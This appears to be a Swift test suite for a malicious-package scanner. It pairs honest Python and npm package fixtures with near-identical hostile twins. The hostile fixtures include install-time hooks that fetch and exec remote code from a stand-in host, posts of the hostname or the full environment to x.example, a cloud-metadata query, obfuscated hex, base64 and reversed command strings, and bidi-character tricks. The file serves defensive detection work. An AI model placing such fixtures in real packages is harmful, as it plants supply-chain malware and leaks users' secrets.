import Screening
import TestSupport
import Testing

@testable import Analyzers

/// An honest artifact with a hostile one that comes as near to it as it can.
private struct Twins: CustomTestStringConvertible, Sendable {
    let testDescription: String
    /// What the honest one must not have, and the hostile one must.
    let codes: Set<String>
    let verdict: Verdict
    let honest: @Sendable () throws -> Artifact
    let hostile: @Sendable () throws -> Artifact

    init(
        _ name: String, _ codes: Set<String>, _ verdict: Verdict = .malicious,
        honest: @escaping @Sendable () throws -> Artifact, hostile: @escaping @Sendable () throws -> Artifact
    ) {
        (testDescription, self.codes, self.verdict, self.honest, self.hostile) = (name, codes, verdict, honest, hostile)
    }
}

extension Artifact {
    /// Codes of findings that hold, with the reach they have: `code@reach`.
    fileprivate func heldCodes() -> Set<String> {
        Set(report().findings.filter { $0.finding.severity != .info }.compactMap(\.finding.evidence))
    }
}

private let fetch = "exec(urlopen('https://x.example/a.py').read())"

/// A setup script with a class of a command.
private func setup(_ offer: String, more: String = "", body: String = "\n        \(fetch)") -> String {
    """
    from urllib.request import urlopen
    from setuptools import setup, Command
    class Table(Command):
        user_options = []
        def run(self):\(body)
    \(more)
    setup(name='acme-box', cmdclass={\(offer)})

    """
}

private let atInstall: Set<String> = ["fetched-code-runs@install"]

private let setupTwins: [Twins] = [
    Twins(
        "a command of the developers, and one that installations give", atInstall,
        honest: { try sdistSetup(setup("'import_table': Table")) },
        hostile: { try sdistSetup(setup("'build_py': Table")) }),
    Twins(
        "a command of the developers, and one that another runs", atInstall,
        honest: { try sdistSetup(setup("'import_table': Table")) },
        hostile: {
            try sdistSetup(setup("'import_table': Table", more: "def go(c): c.run_command('import_' + 'table')"))
        }),
    Twins(
        "a file that a name held later, and a read-me that is run", ["data-file-runs@install"],
        honest: {
            try sdistSetup("\(readMe)with open('acme_box/version.py') as f:\n    exec(f.read())\n", described)
        },
        hostile: { try sdistSetup("\(readMe)with open('README.md') as f:\n    exec(f.read())\n", described) }),
    Twins(
        "a module that knows the host, and one that tells of it", ["host-facts-sent-at-install@install"],
        honest: {
            try sdistSetup("from acme_box import version\nfrom setuptools import setup\nsetup()\n", telling("if ask:"))
        },
        hostile: {
            try sdistSetup("import socket, requests\nrequests.post('https://x.example', data=socket.gethostname())\n")
        }),
    Twins(
        "a command of the developers, and one whose class is used too", atInstall,
        honest: { try sdistSetup(setup("'import_table': Table")) },
        hostile: { try sdistSetup(setup("'import_table': Table", more: "class Build(Table): pass")) }),
    Twins(
        "a command of the developers, and one whose class is found by its name", atInstall,
        honest: { try sdistSetup(setup("'import_table': Table")) },
        hostile: { try sdistSetup(setup("'import_table': Table", more: "globals()['Ta' + 'ble'].run(None)")) }),
    Twins(
        "a command of the developers, and one among all that are gone through", atInstall,
        honest: { try sdistSetup(setup("'import_table': Table")) },
        hostile: {
            let text = setup("'import_table': Table").replacing("cmdclass={'import_table': Table}", with: "cmdclass=c")
            return try sdistSetup(
                text.replacing(
                    "setup(name", with: "c = {'import_table': Table}\nlist(c.values())[0].run(0)\nsetup(name"))
        }),
    Twins(
        "a method, and the value of a parameter", atInstall,
        honest: { try sdistSetup(setup("'import_table': Table")) },
        hostile: { try sdistSetup(setup("'import_table': Table", body: " \(fetch)")) }),
    Twins(
        "a method, and a decorated one", atInstall,
        honest: { try sdistSetup(setup("'import_table': Table")) },
        hostile: {
            let text = setup("'import_table': Table")
            return try sdistSetup(text.replacing("    def run", with: "    @(lambda f: f(None))\n    def run"))
        }),
    Twins(
        "a script of the build, and a test that it runs", ["test-code-runs@install"], .suspicious,
        honest: {
            try sdist { tar in
                tar.addFile("acme_box-1.2.3/pyproject.toml", "[tool.hatch.build.hooks.custom]\npath = 'scripts/a.py'\n")
                tar.addFile("acme_box-1.2.3/scripts/a.py", "import os\n")
            }
        },
        hostile: {
            try sdist { tar in
                tar.addFile("acme_box-1.2.3/pyproject.toml", "[tool.hatch.build.hooks.custom]\npath = 'tests/a.py'\n")
                tar.addFile("acme_box-1.2.3/tests/a.py", "import os\n")
            }
        }),
    Twins(
        "a default address, and a question at installation", ["metadata-address@install"],
        honest: {
            try sdistSetup("from acme_box import version\nfrom setuptools import setup\nsetup()\n", metadata(""))
        },
        hostile: {
            try sdistSetup(
                "from acme_box import version\nfrom setuptools import setup\nsetup()\n", metadata("role = ask()\n"))
        }),
    Twins(
        "the index's own files, and a host that looks like it", ["imitated-host@install"], .suspicious,
        honest: { try sdistSetup("URL = 'https://files.\(indexHost)/packages/a.whl'\n") },
        hostile: { try sdistSetup("URL = 'https://files.pythonhosted-mirror.example/packages/a.whl'\n") }),
]

/// In two pieces: the project names no host of a client's configuration.
private let indexHost = "pythonhosted" + ".org"

private let readMe = "with open('README.md') as f:\n    text = f.read()\n"

private func described(_ tar: inout TarBuilder) {
    tar.addFile("acme_box-1.2.3/README.md", "    import box\n    exec(box.code)\n    print(box)\n")
    tar.addFile("acme_box-1.2.3/acme_box/version.py", "version = '1'\n")
}

private func telling(_ condition: String) -> (inout TarBuilder) -> Void {
    let code = """
        import socket, requests
        version, ask, host = '1', False, socket.gethostname()
        \(condition)
            requests.post('https://x.example', data={})

        """
    return { $0.addFile("acme_box-1.2.3/acme_box/__init__.py", code) }
}

private func metadata(_ more: String) -> (inout TarBuilder) -> Void {
    let code = """
        from urllib.request import urlopen
        version = '1'
        def ask(url='http://169.254.169.254/latest/meta-data/'):
            return urlopen(url).read()

        """
    return { $0.addFile("acme_box-1.2.3/acme_box/__init__.py", code + more) }
}

private let encoded = "Y29uc29sZS5sb2coImFjbWUgYm94Iik7bGV0IGE9MQ=="

/// Two modules of a bundle that name different things alike, with more of the second.
private func bundle(_ names: String) -> String {
    """
    (()=>{var e={1:(t,n)=>{function e(t){return atob("\(encoded)")}n.a=e(1)},
    2:(t,n)=>{\(names)return Function("a",e)}n.b=r("return "+n.c)}};e[1]({},{})})();

    """
}

private let flowTwins: [Twins] = [
    Twins(
        "one letter for two things, and for one", ["decoded-code-runs@call", "decoded-code-runs@import"],
        honest: { try npmCode(bundle("function r(e){")) },
        hostile: { try npmCode(bundle("var e=atob(\"\(encoded)\");function r(z){")) }),
    Twins(
        "a template that is filled, and a text that is turned round", ["decoded-code-runs@import"],
        honest: { try wheelCode("code = 'for x in range({0}): run()'.format(1000)\nexec(code)\n") },
        hostile: { try wheelCode("code = ')\"di\"(metsys.so ;so tropmi'[::-1]\nexec(code)\n") }),
    Twins(
        "what a stream was given, and what a list was", ["decoded-command-runs@call"],
        honest: {
            try wheelCode(
                """
                import base64, os, sys
                def show(): sys.stdout.write(base64.b64decode('bHMgLWxhIC90bXAvYWNtZS1ib3g=').decode())
                def build(): os.system('make PYTHON=%s' % sys.executable)

                """)
        },
        hostile: {
            try wheelCode(
                """
                import base64, os
                parts = []
                def show(): parts.append(base64.b64decode('bHMgLWxhIC90bXAvYWNtZS1ib3g=').decode())
                def build(): os.system(''.join(parts))

                """)
        }),
    Twins(
        "words in a command line, and characters that become one", ["decoded-command-runs@import"],
        honest: {
            try wheelCode(
                """
                import subprocess
                skipped = ['tests', 'docs', 'build']
                def check(folder):
                    subprocess.run(['tool', ' '.join(f'--skip={name}' for name in skipped), folder])
                check('.')

                """)
        },
        hostile: {
            try wheelCode(
                """
                import subprocess
                words = ['626173', '68202d', '632068']
                subprocess.run(''.join(bytes.fromhex(word).decode() for word in words) + ' x', shell=True)

                """)
        }),
    Twins(
        "numbers in the names of variables, and code points that become a program", ["decoded-code-runs@import"],
        honest: { try wheelCode("exec(''.join('x%d = None\\n' % n for n in range(9)))\n") },
        hostile: {
            let numbers = "print(1)\nimport os\n".utf8.map { String($0 - 1) }.joined(separator: ", ")
            return try wheelCode("exec(''.join(chr(n + 1) for n in [\(numbers)]))\n")
        }),
    Twins(
        "one variable, and all of them", ["environment-sent@import", "whole-environment-sent@import"], .suspicious,
        honest: {
            try wheelCode(
                """
                import os, requests
                settings = os.environ
                requests.post('https://x.example', data={'region': settings.get('REGION'), 'zone': settings['ZONE']})

                """)
        },
        hostile: {
            try wheelCode(
                """
                import os, requests
                settings = os.environ
                requests.post('https://x.example', data={'region': settings['REGION'], 'all': dict(settings)})

                """)
        }),
    Twins(
        "a socket of this machine, and a host elsewhere", ["command-sends-data@import"], .suspicious,
        honest: { try wheelCode("import os\nos.system('curl -s --unix-socket /run/a.sock http://a/$HOSTNAME')\n") },
        hostile: { try wheelCode("import os\nos.system('curl -s http://x.example/a/$HOSTNAME')\n") }),
    Twins(
        "the characters that a parser takes, and a program by its numbers", ["text-of-numbers@import"], .suspicious,
        honest: { try npmCode("exports.a = String.fromCharCode(\(numbers(Array(0x21...0x5F))))\n") },
        hostile: {
            try npmCode("exports.a = String.fromCharCode(\(numbers(Array("const a = b => { return run(b) }".utf8))))\n")
        }),
    Twins(
        "what a pattern covers, and what is required", ["data-file-runs@import"], .suspicious,
        honest: { try npmTarball(manifest: wildcard) { $0.addFile("package/lib/notes.md", notes) } },
        hostile: {
            try npmTarball(manifest: wildcard) { tar in
                tar.addFile("package/lib/notes.md", notes)
                tar.addFile("package/lib/a.js", "require('./notes.md')\n")
            }
        }),
]

private func numbers(_ values: [UInt8]) -> String { values.map { String($0) }.joined(separator: ",") }

private let wildcard = #"{"name":"acme-box","version":"1.2.3","exports":{"./*":"./lib/*"}}"#
private let notes = "Use it so:\n\n    const box = require('box')\n    process.exit(box())\n"

private let tags = "\u{E0067}\u{200D}\u{E0062}\u{200D}\u{E0065}\u{200D}\u{E006E}\u{200D}\u{E0067}\u{200D}\u{E007F}"

private let textTwins: [Twins] = [
    Twins(
        "a flag with joiners, and tags without a flag", ["tag-characters@import"],
        honest: { try wheelCode("FLAGS = {'england': '\u{1F3F4}\u{200D}\(tags)'}\n") },
        hostile: { try wheelCode("FLAGS = {'england': '\u{1F3F3}\u{200D}\(tags)'}\n") }),
    Twins(
        "marks beside escapes, and marks beside letters", ["bidi-in-code@import"],
        honest: { try npmCode("exports.a = \"\\u2029\u{202D}\u{202E}\\0\u{2066}\\xA0\u{2069}\\uFEFF\"\n") },
        hostile: { try npmCode("exports.a = \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\"\n") }),
    Twins(
        "a table of private characters, and a text of them", ["private-use-run@import"], .suspicious,
        honest: { try npmCode("exports.a = '\(privateUse([8, 3, 6, 1, 9, 12, 4, 7, 2, 5]))'\n") },
        hostile: { try npmCode("exports.a = '\(privateUse([8, 3, 6, 1, 9, 12, 4, 3, 2, 5]))'\n") }),
    Twins(
        "bytes, and letters", ["escaped-file@import"], .suspicious,
        honest: { try wheelCode(escapes { UInt8(truncatingIfNeeded: $0 &* 73 &+ 11) }) },
        hostile: { try wheelCode(escapes { UInt8(ascii: "g") + UInt8($0 % 20) }) }),
]

private func privateUse(_ values: [UInt32]) -> String {
    String(String.UnicodeScalarView(values.compactMap { Unicode.Scalar(0xF880 + $0) }))
}

/// Forty literals of sixteen bytes that are written by their numbers.
private func escapes(_ byte: (Int) -> UInt8) -> String {
    (0..<40).map { row in
        let bytes = (0..<16).map { column in
            let digits = String(byte(row * 16 + column), radix: 16)
            return "\\x" + (digits.count < 2 ? "0" : "") + digits
        }
        return "K\(row) = b'\(bytes.joined())'\n"
    }.joined()
}

@Suite("Honest packages are told from hostile ones that look like them")
struct HonestTwinTests {
    @Test("setup scripts", arguments: setupTwins)
    fileprivate func setupScripts(_ twins: Twins) throws { try check(twins) }

    @Test("values and files", arguments: flowTwins)
    fileprivate func flow(_ twins: Twins) throws { try check(twins) }

    @Test("characters", arguments: textTwins)
    fileprivate func texts(_ twins: Twins) throws { try check(twins) }

    private func check(_ twins: Twins) throws {
        let honest = try twins.honest()
        #expect(honest.heldCodes().isDisjoint(with: twins.codes), "honest: \(honest.heldCodes().sorted())")
        let hostile = try twins.hostile()
        #expect(!hostile.heldCodes().isDisjoint(with: twins.codes), "hostile: \(hostile.heldCodes().sorted())")
        #expect(hostile.report().verdict >= twins.verdict, "\(hostile.report().findings)")
    }
}
